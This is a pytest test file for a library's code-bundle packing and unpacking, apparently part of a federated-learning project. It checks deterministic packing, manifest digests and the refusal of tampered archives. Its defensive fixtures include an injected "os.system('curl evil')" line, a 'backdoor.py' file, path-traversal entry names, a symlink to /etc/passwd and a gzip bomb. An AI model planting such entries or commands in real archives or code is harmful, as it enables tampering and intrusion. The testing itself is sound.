"""Job bundles: deterministic packing, and unpacking that refuses anything not in the manifest."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from fedsilo.errors import ConfigError, SignatureError
from fedsilo.jobs import Manifest, pack_bundle, unpack_bundle

CODE = {
    "task.py": b"def model(ctx):\n    return None\n",
    "pkg/__init__.py": b"",
    "pkg/util.py": b"SCALE = 2\n",
    "pkg/deep/er/config.json": b'{"layers": 3}\n',
}


def _write_code(folder: Path) -> Path:
    for name, data in CODE.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return folder


@pytest.fixture
def code_dir(tmp_path: Path) -> Path:
    return _write_code(tmp_path / "code")


def _files_under(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _members(data: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(data)), mode="r") as tar:
        out: dict[str, bytes] = {}
        for member in tar.getmembers():
            extracted = tar.extractfile(member)
            assert extracted is not None
            out[member.name] = extracted.read()
        return out


def _repack(data: bytes, edit: Callable[[dict[str, bytes]], None]) -> bytes:
    """The bundle's entries, changed by ``edit``, in a fresh gzip'd tar."""
    entries = _members(data)
    edit(entries)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, blob in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
    return gzip.compress(raw.getvalue())


def test_round_trip_keeps_nested_files(code_dir: Path, tmp_path: Path) -> None:
    data, manifest = pack_bundle(code_dir)
    dest = tmp_path / "silo" / "jobs" / "j1" / "code"
    unpacked = unpack_bundle(data, dest)
    assert unpacked == manifest
    files = _files_under(dest)
    assert files.pop("MANIFEST.json") == manifest.canonical()
    assert files == CODE
    assert manifest.files == {name: hashlib.sha256(blob).hexdigest() for name, blob in CODE.items()}
    # no staging folder is left next to the destination
    assert [p.name for p in dest.parent.iterdir()] == ["code"]


def test_digest_is_the_sha256_of_the_unpacked_manifest(code_dir: Path, tmp_path: Path) -> None:
    data, manifest = pack_bundle(code_dir)
    dest = tmp_path / "out"
    unpack_bundle(data, dest)
    stored = (dest / "MANIFEST.json").read_bytes()
    assert hashlib.sha256(stored).hexdigest() == manifest.digest
    assert json.loads(stored) == manifest.files


def test_packing_is_deterministic(code_dir: Path, tmp_path: Path) -> None:
    data, manifest = pack_bundle(code_dir)
    # other mtimes, other permissions, another location: the same code
    for i, path in enumerate(sorted(code_dir.rglob("*.py"))):
        os.utime(path, (1_000_000 + i * 7777, 1_000_000 + i * 7777))
    (code_dir / "task.py").chmod(0o755)
    copy = _write_code(tmp_path / "elsewhere" / "copy")
    for other in (code_dir, copy):
        again, again_manifest = pack_bundle(other)
        assert again == data
        assert again_manifest.digest == manifest.digest


def test_changed_code_changes_the_digest(code_dir: Path) -> None:
    _, before = pack_bundle(code_dir)
    (code_dir / "pkg" / "util.py").write_bytes(b"SCALE = 3\n")
    _, after = pack_bundle(code_dir)
    assert after.digest != before.digest
    assert after.files["pkg/util.py"] == hashlib.sha256(b"SCALE = 3\n").hexdigest()


def test_caches_and_compiled_files_are_left_out(code_dir: Path, tmp_path: Path) -> None:
    _, clean = pack_bundle(code_dir)
    (code_dir / "__pycache__").mkdir()
    (code_dir / "__pycache__" / "task.cpython-311.pyc").write_bytes(b"\x00compiled")
    (code_dir / "pkg" / "__pycache__").mkdir()
    (code_dir / "pkg" / "__pycache__" / "util.cpython-311.pyc").write_bytes(b"\x00")
    (code_dir / "pkg" / "stray.pyc").write_bytes(b"\x00")
    data, manifest = pack_bundle(code_dir)
    assert manifest == clean
    dest = tmp_path / "out"
    unpack_bundle(data, dest)
    assert not list(dest.rglob("__pycache__"))
    assert not list(dest.rglob("*.pyc"))


def test_unpack_replaces_an_existing_destination(code_dir: Path, tmp_path: Path) -> None:
    dest = tmp_path / "out"
    dest.mkdir()
    (dest / "stale.py").write_text("old = True\n")
    unpack_bundle(pack_bundle(code_dir)[0], dest)
    assert not (dest / "stale.py").exists()
    assert (dest / "task.py").read_bytes() == CODE["task.py"]


def _modify(entries: dict[str, bytes]) -> None:
    entries["pkg/util.py"] = b"import os; os.system('curl evil')\n"


def _add(entries: dict[str, bytes]) -> None:
    entries["pkg/backdoor.py"] = b"print('hi')\n"


def _remove(entries: dict[str, bytes]) -> None:
    del entries["pkg/deep/er/config.json"]


@pytest.mark.parametrize(
    ("edit", "kind", "named"),
    [
        (_modify, "modified", "pkg/util.py"),
        (_add, "added", "pkg/backdoor.py"),
        (_remove, "missing", "pkg/deep/er/config.json"),
    ],
    ids=["modified", "added", "missing"],
)
def test_tampered_bundles_are_refused(
    code_dir: Path,
    tmp_path: Path,
    edit: Callable[[dict[str, bytes]], None],
    kind: str,
    named: str,
) -> None:
    data, _ = pack_bundle(code_dir)
    tampered = _repack(data, edit)
    dest = tmp_path / "silo" / "code"
    with pytest.raises(SignatureError) as excinfo:
        unpack_bundle(tampered, dest)
    assert f"{kind}: {named}" in str(excinfo.value)
    assert not dest.exists()
    assert not (tmp_path / "silo").exists() or not any((tmp_path / "silo").iterdir())


def test_the_untampered_repack_is_accepted(code_dir: Path, tmp_path: Path) -> None:
    """The tampering helper itself produces bundles that unpack when nothing is changed."""
    data, manifest = pack_bundle(code_dir)
    assert unpack_bundle(_repack(data, lambda entries: None), tmp_path / "out") == manifest


def test_tampering_with_code_and_manifest_together_changes_the_digest(
    code_dir: Path, tmp_path: Path
) -> None:
    data, manifest = pack_bundle(code_dir)

    def rewrite(entries: dict[str, bytes]) -> None:
        _modify(entries)
        files = json.loads(entries["MANIFEST.json"])
        files["pkg/util.py"] = hashlib.sha256(entries["pkg/util.py"]).hexdigest()
        entries["MANIFEST.json"] = json.dumps(files).encode()

    unpacked = unpack_bundle(_repack(data, rewrite), tmp_path / "out")
    assert unpacked.digest != manifest.digest  # so a signature over the digest no longer holds


def test_a_bundle_without_manifest_is_refused(code_dir: Path, tmp_path: Path) -> None:
    data, _ = pack_bundle(code_dir)
    stripped = _repack(data, lambda entries: entries.pop("MANIFEST.json"))
    with pytest.raises(SignatureError, match="no manifest"):
        unpack_bundle(stripped, tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["../x.py", "pkg/../../x.py", "/tmp/x.py"])
def test_entries_escaping_the_folder_are_refused(code_dir: Path, tmp_path: Path, name: str) -> None:
    data, _ = pack_bundle(code_dir)

    def escape(entries: dict[str, bytes]) -> None:
        entries[name] = b"owned = True\n"

    dest = tmp_path / "silo" / "code"
    with pytest.raises(SignatureError, match="escapes"):
        unpack_bundle(_repack(data, escape), dest)
    assert not dest.exists()
    assert not (tmp_path / "silo" / "x.py").exists()
    assert not (tmp_path / "x.py").exists()


def test_link_entries_are_refused(code_dir: Path, tmp_path: Path) -> None:
    data, _ = pack_bundle(code_dir)
    entries = _members(data)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, blob in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
        link = tarfile.TarInfo("pkg/passwd")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        tar.addfile(link)
    with pytest.raises(SignatureError, match="pkg/passwd"):
        unpack_bundle(gzip.compress(raw.getvalue()), tmp_path / "out")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "data",
    [b"", b"PK\x03\x04 a zip file", gzip.compress(b"gzip, but no tar inside")],
    ids=["empty", "not-gzip", "not-tar"],
)
def test_data_that_is_not_a_bundle_is_refused(data: bytes, tmp_path: Path) -> None:
    with pytest.raises(SignatureError):
        unpack_bundle(data, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_symlinked_file_is_refused(code_dir: Path, tmp_path: Path) -> None:
    outside = tmp_path / "secrets.txt"
    outside.write_text("token\n")
    link = code_dir / "pkg" / "secrets.txt"
    link.symlink_to(outside)
    with pytest.raises(ConfigError, match="symbolic link") as excinfo:
        pack_bundle(code_dir)
    assert excinfo.value.file == str(link)


def test_a_symlinked_folder_is_refused(code_dir: Path, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "helpers.py").write_text("X = 1\n")
    (code_dir / "helpers").symlink_to(shared, target_is_directory=True)
    with pytest.raises(ConfigError, match="symbolic link"):
        pack_bundle(code_dir)


def test_an_empty_folder_is_refused(tmp_path: Path) -> None:
    empty = tmp_path / "code"
    (empty / "sub").mkdir(parents=True)
    with pytest.raises(ConfigError, match="no files") as excinfo:
        pack_bundle(empty)
    assert excinfo.value.file == str(empty)


def test_a_folder_of_caches_only_is_refused(code_dir: Path) -> None:
    shutil.rmtree(code_dir)
    (code_dir / "__pycache__").mkdir(parents=True)
    (code_dir / "__pycache__" / "task.cpython-311.pyc").write_bytes(b"\x00")
    with pytest.raises(ConfigError, match="no files"):
        pack_bundle(code_dir)


def test_a_missing_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="does not exist") as excinfo:
        pack_bundle(tmp_path / "nowhere")
    assert excinfo.value.file == str(tmp_path / "nowhere")


def test_manifest_digest_is_over_the_canonical_json() -> None:
    manifest = Manifest(files={"b.py": "22", "a.py": "11"})
    assert manifest.canonical() == b'{"a.py":"11","b.py":"22"}'
    assert manifest.digest == hashlib.sha256(b'{"a.py":"11","b.py":"22"}').hexdigest()
    assert Manifest(files={"a.py": "11", "b.py": "22"}).digest == manifest.digest


def test_a_gzip_bomb_is_refused(tmp_path: Path) -> None:
    import gzip
    import io
    import tarfile

    from fedsilo.jobs._bundle import MAX_UNPACKED_BYTES

    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        info = tarfile.TarInfo("task.py")
        info.size = MAX_UNPACKED_BYTES + 1024
        tar.addfile(info, io.BytesIO(bytes(info.size)))
    bomb = gzip.compress(raw.getvalue(), compresslevel=1)
    assert len(bomb) < MAX_UNPACKED_BYTES // 100
    with pytest.raises(SignatureError, match="more than"):
        unpack_bundle(bomb, tmp_path / "out")
    assert not (tmp_path / "out").exists()
